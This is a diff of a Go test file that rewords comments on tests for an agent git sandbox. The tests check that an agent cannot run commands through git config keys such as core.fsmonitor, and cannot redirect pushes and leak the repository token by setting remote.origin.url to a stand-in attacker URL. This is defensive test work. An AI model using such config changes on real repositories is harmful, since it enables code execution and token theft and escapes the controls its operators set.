@@ -140,9 +140,9 @@ func checkRemote(t *testing.T, remote *gitremote.Repo, mainTip string) {
 	}
 }
 
-// Issue 12: `git config core.fsmonitor <cmd>` in one worktree writes the
-// shared mirror config, and the bot's `git status` in any thread ran <cmd>.
-// The same for every other config key that names a command.
+// `git config core.fsmonitor <cmd>` in one worktree writes the shared mirror
+// config; the bot's `git status` in no thread runs <cmd>. The same for every
+// other config key that names a command.
 func TestAgentGitConfigRunsNothingInAnyThread(t *testing.T) {
 	remote := gitremote.NewBare(t, gitremote.Options{Files: seedFiles()})
 	mainTip := remote.Rev(t, "main")
@@ -269,8 +269,8 @@ func TestDotGitReplacedByTheAgent(t *testing.T) {
 			}
 
 			sha := exercise(t, w, remote, "attacker")
-			// Garbage collection (which used to prune registrations whose
-			// .git was gone) keeps the thread's registration.
+			// Garbage collection keeps the thread's registration, though
+			// its .git is gone.
 			if _, err := e.m.Cleanup(ctx); err != nil {
 				t.Fatal(err)
 			}
@@ -315,8 +315,8 @@ func TestDotGitReplacedByTheAgent(t *testing.T) {
 	}
 }
 
-// Issue 12: `git config remote.origin.url http://attacker/…` made the bot
-// send the repository token there on the next push.
+// `git config remote.origin.url http://attacker/…` does not make the bot
+// fetch from or push to there, nor send the repository token there.
 func TestAgentCannotRedirectFetchOrPush(t *testing.T) {
 	const token = "ghp_REDIRECTEDtoken0987654321"
 	remote := gitremote.NewBare(t, gitremote.Options{Files: seedFiles()})
